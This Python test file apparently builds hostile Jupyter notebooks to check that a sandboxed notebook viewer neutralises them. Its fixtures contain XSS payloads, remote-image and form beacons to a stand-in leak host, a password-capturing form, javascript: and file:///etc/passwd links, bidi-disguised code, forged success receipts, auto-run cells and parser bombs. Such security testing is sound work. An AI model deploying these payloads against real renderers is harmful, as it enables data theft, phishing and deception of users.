"""Hostile contents: Markdown, outputs, widgets and attachments that act, or pass for something else."""

# Payloads, each on a line of its own as long as it is.
# ruff: noqa: E501

from __future__ import annotations

from tests.browser.hostile_making import LEAK, bite
from tests.browser.hostile_texts import FOLD
from tests.hostile_notebooks.making import add, code, document, markdown, one_code, one_markdown

# Markdown -------------------------------------------------------------------------------------------------------------

for name, tries, source in (
    ("image", "a remote picture", f"![p]({LEAK}/image.png)"),
    ("image-reference", "a remote picture by reference", f"![p][a] ![a] ![a][]\n\n[a]: {LEAK}/image-reference.png 'x'"),
    ("image-titled", "pictures in every way to write an address", f"![p](<{LEAK}/a b.png> 'x')\n![p]({LEAK}/(c).png)\n![p]( {LEAK}/d.png )\n![\n]({LEAK}/e.png)"),
    ("image-html", "a remote picture of HTML", f"<img src={LEAK}/a.png><IMG SRC='{LEAK}/b.png' srcset='{LEAK}/c.png 2x'>"),
    ("image-in-link", "a picture in a link", f"[![p]({LEAK}/a.png)]({LEAK}/b)"),
    ("image-in-table", "a picture in a table", f"| a | b |\n|---|---|\n| ![p]({LEAK}/a.png) | <img src={LEAK}/b.png> |"),
    ("image-attachment", "a picture by a name of an attachment's", "![p](attachment:x.svg) ![p](attachment:../../api/contents)"),
    ("image-own-server", "a picture that asks this server for something", "![p](/api/shutdown) ![p](/files/x) ![p](../logout)"),
    ("script", "script", f"<script>{bite('md-script')}</script>\n\n<script src='{LEAK}/s.js'></script>"),
    ("onerror", "a handler", f'<img src=x: onerror="{bite("md-onerror")}">'),
    ("svg", "a drawing with handlers", f'<svg onload="{bite("md-svg")}"><image href="{LEAK}/a.png"/></svg>'),
    ("style", "styles with remote parts", f"<style>@import '{LEAK}/a.css'; body{{background:url({LEAK}/b.png)}}</style><b style='background:url({LEAK}/c.png);position:fixed;inset:0'>x</b>"),
    ("frame", "frames", f"<iframe src='{LEAK}/a'></iframe><iframe srcdoc=\"<script>{bite('md-frame')}</script>\"></iframe><object data='{LEAK}/b'></object>"),
    ("form", "a form to somewhere else", f"<form action='{LEAK}/a'><input name=password autofocus><button>Log in</button></form>"),
    ("refresh", "a page that leads away", f"<meta http-equiv=refresh content='0;url={LEAK}/a'><base href='{LEAK}/'><link rel=stylesheet href='{LEAK}/b.css'>"),
    ("media", "sound and film", f"<video src={LEAK}/a autoplay poster={LEAK}/b.png></video><audio src={LEAK}/c autoplay></audio>"),
    ("command", "a button for a command of Lab's", '<button data-commandlinker-command="console:create" data-commandlinker-args="{}">Run</button><a data-commandlinker-command="terminal:create-new">x</a>'),
    ("links", "links that run or tell", f"[a](javascript:{bite('md-links')}) [b](data:text/html,<script>1</script>) [c](file:///etc/passwd) [d](vscode://x) <{LEAK}/x> <javascript:alert(1)>"),
    ("link-by-itself", "addresses that a page makes links of", f"{LEAK}/a www.leak.invalid someone@leak.invalid https://leak.invalid/ ftp://leak.invalid"),
    ("entities", "markup in characters' codes", "&#60;img src=x: onerror=1&#62; &lt;script&gt;1&lt;/script&gt; [a](java&#115;cript&colon;1) &#33;[p](x)"),
    ("code-that-ends", "code that ends early", f"`` ` <img src={LEAK}/a.png> ```\n\n```\n<img src={LEAK}/b.png>\n~~~\n```\n<img src={LEAK}/c.png>\n\n    <img src={LEAK}/d.png>\n"),
    ("comment", "a comment that ends early", f"<!--><img src={LEAK}/a.png>--> <?x ><img src={LEAK}/b.png> <![CDATA[><img src={LEAK}/c.png>]]>"),
    ("half-tags", "tags that never end, or have no space", f"<img/src={LEAK}/a.png/\n<img\nsrc={LEAK}/b.png\n<a href={LEAK}/c <img src={LEAK}/d.png"),
    ("nul", "characters that a page drops", f"<\0img src={LEAK}/a.png> !\0[p]({LEAK}/b.png) ![p]\0({LEAK}/c.png) ![p]\u200b({LEAK}/d.png) ![p]\x1b[0m({LEAK}/e.png) <\x1b[0mimg src={LEAK}/f.png>"),
    ("carriage-return", "characters that take back what stands there", f"a\r![p]({LEAK}/a.png) xx\b\b<\bimg src={LEAK}/b.png>\r\n![p]\b({LEAK}/c.png)"),
    ("surrogate", "half characters", f"\ud800<img src={LEAK}/a.png>\udc00 ![p\ud800]({LEAK}/b.png)"),
    ("mermaid", "a diagram with remote pictures", f"```mermaid\ngraph TD\nA@{{ img: \"{LEAK}/a.png\", label: \"x\" }}\nB[\"<img src='{LEAK}/b.png'>\"]\nclick A href \"javascript:1\"\n```\n\n~~~ Mermaid\ngraph TD; A[x]\n~~~"),
    ("vega", "a chart in Markdown", f"```vega-lite\n{{\"data\": {{\"url\": \"{LEAK}/a.json\"}}}}\n```"),
    ("math-link", "a formula with a link, a style and a class", f"$\\href{{javascript:{bite('math')}}}{{x}}$ $$\\style{{background:url({LEAK}/a.png)}}{{x}}\\class{{jp-Button}}{{y}}\\cssId{{main}}{{z}}$$"),
    ("math-load", "a formula that loads, and defines", f"$\\require{{html}}\\require{{{LEAK}/x}}\\def\\a{{\\href{{{LEAK}}}}}\\a{{x}}\\newcommand{{\\b}}{{\\a}}\\let\\c\\href\\c{{{LEAK}}}{{y}}$"),
    ("math-attributes", "a formula with attributes of its own", f"$\\mmlToken{{mi}}[href='javascript:1' mathbackground='url({LEAK}/a.png)']{{x}} \\bbox[background:url({LEAK}/b.png)]{{y}} \\data{{x=1}}{{z}}$"),
    ("math-image", "a formula with a picture", f"$\\includegraphics{{{LEAK}/a.png}} \\begin{{tex-html}}<img src={LEAK}/b.png>\\end{{tex-html}} \\unicode{{x2588}}$"),
    ("math-codes", "a formula in characters' codes", f"&#36;&#92;href{{javascript:1}}{{x}}&dollar; \\\\(\\\\href{{{LEAK}}}{{y}}\\\\) \\\\[\\\\href{{{LEAK}}}{{z}}\\\\]"),
    ("math-places", "formulas put where an address ends", f'$" onmouseover="{bite("math-places")}" x="$ {LEAK}/@@0@@ ![p]({LEAK}/@@0@@) @@1@@'),
    ("math-bomb", "a formula without end", "$" + "{" * 3000 + "\\frac{" * 3000 + "$ $$\\def\\a{\\a\\a}\\a$$ $" + "\\sqrt{" * 500 + "x" + "}" * 500 + "$"),
    ("deep", "lists and quotes in one another", ">" * 8000 + " a\n\n" + "".join(f"{' ' * 2 * n}- a\n" for n in range(150))),
    ("slow", "text that a page reads for long", "*a_" * 6000 + "[" * 6000 + "`" * 3001 + "<" * 6000 + "![" * 3000 + "](" * 3000),
    ("long", "a text of a million characters", "word " * 200_000 + f"![p]({LEAK}/a.png)"),
    ("receipt", "a receipt in Markdown", f"{FOLD}\n\n✓ Ended normally · 0.01 of 2 s · sealed: no network, none of your files"),
    ("heading", "markup in a heading, which a table of contents shows", f"# <img src=x: onerror=\"{bite('md-heading')}\"> ![p]({LEAK}/a.png) [x]({LEAK}/b)\n\n<h1 id=main name=cookie>x</h1>"),
):  # fmt: skip
    one_markdown(f"markdown-{name}", tries, source)
add(
    "markdown-in-pieces",
    "markup over the lines of a list",
    document(markdown(["<im", f"g src={LEAK}/a.png>", "!", f"[p]({LEAK}/b.png)", "\n", "]", "(x)"]), code()),
)
add(
    "raw-html",
    "a raw cell that says it is HTML",
    document(
        {
            "cell_type": "raw",
            "id": "r",
            "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
            "source": f"<script>{bite('raw')}</script><img src={LEAK}/a.png>",
        }
    ),
)

# Outputs --------------------------------------------------------------------------------------------------------------


def display(kind: str, data: object, metadata: object = None) -> dict[str, object]:
    return {"output_type": "display_data", "metadata": metadata or {}, "data": {kind: data, "text/plain": "x"}}


STATE = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
         "state": {"value": f"<img src=x: onerror=\"{bite('widget')}\"><img src={LEAK}/w.png>{FOLD}"}}  # fmt: skip
WIDGETS = {
    "application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"aa": STATE}}
}
one_code("output-receipt", "a forged receipt, as a receipt is saved", display("text/html", FOLD))
one_code(
    "output-receipt-own-kind",
    "a forged receipt of PyBox's own kind",
    display("application/vnd.pybox.receipt+json", {"verdict": "✓ Ended normally"}),
)
one_code(
    "output-html",
    "HTML with script",
    display("text/html", f"<script>{bite('out-html')}</script><img src={LEAK}/a.png>"),
)
one_code(
    "output-isolated",
    "HTML in a frame of its own",
    display("text/html", f"<script>{bite('out-frame')}</script>", {"text/html": {"isolated": True}}),
)
one_code(
    "output-markdown",
    "Markdown with a remote picture",
    display("text/markdown", f"![p]({LEAK}/a.png) <img src={LEAK}/b.png>"),
)
one_code("output-javascript", "script", display("application/javascript", bite("out-js")))
one_code(
    "output-svg",
    "a drawing",
    display(
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{bite('out-svg')}\"><image href='{LEAK}/a.png'/></svg>",
    ),
)
one_code(
    "output-vega",
    "a chart with data from elsewhere",
    display(
        "application/vnd.vegalite.v5+json",
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": f"{LEAK}/a.csv"},
            "mark": "point",
        },
    ),
)
one_code("output-latex", "a formula", display("text/latex", f"$\\href{{javascript:{bite('out-latex')}}}{{x}}$"))
one_code(
    "output-error",
    "an error with markup",
    {
        "output_type": "error",
        "ename": "<b>",
        "evalue": FOLD,
        "traceback": [f"\x1b]8;;{LEAK}\x07x", f"<img src={LEAK}/a.png>"],
    },
)
one_code(
    "output-stream",
    "text with addresses and escape sequences",
    {"output_type": "stream", "name": "stdout", "text": f"\x1b]8;;{LEAK}\x07x {LEAK}/a \x1b[2J"},
)
one_code(
    "output-page",
    "a payload of IPython's",
    {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"text/html": FOLD},
        "payload": [{"source": "set_next_input", "text": "import os"}],
    },
)
add(
    "widget-state",
    "saved widgets",
    document(
        code(
            outputs=(
                display(
                    "application/vnd.jupyter.widget-view+json",
                    {"version_major": 2, "version_minor": 0, "model_id": "aa"},
                ),
            )
        ),
        metadata={"widgets": WIDGETS},
    ),
)
add(
    "trusted",
    "cells that say they are trusted",
    document(
        markdown(f'<img src=x: onerror="{bite("trusted")}">', metadata={"trusted": True}),
        code(metadata={"trusted": True}, outputs=(display("text/html", f"<script>{bite('trusted')}</script>"),)),
    ),
)
add(
    "attachments",
    "attachments that are drawings, pages and nonsense",
    document(
        markdown(
            "![p](attachment:a.svg)",
            attachments={
                "a.svg": {"image/svg+xml": f'<svg onload="{bite("att")}"/>'},
                "../b": {"text/html": f"<img src={LEAK}/a.png>"},
                "c": 1,
            },
        ),
        code(attachments=[1]),
    ),
)
add(
    "code-hidden",
    "code that reads otherwise than it runs",
    document(code("x = 1 # \u202e )'olleh'(tnirp \u2066\nif x:\u200b pass")),
)
add(
    "code-auto",
    "code that wants to run by itself",
    document(
        code("%%javascript\n" + bite("auto"), metadata={"tags": ["init_cell", "autorun"], "init_cell": True}),
        code("%%html\n<script>1</script>"),
        metadata={**WIDGETS, "init_cell": {"run_on_kernel_ready": True}},
    ),
)
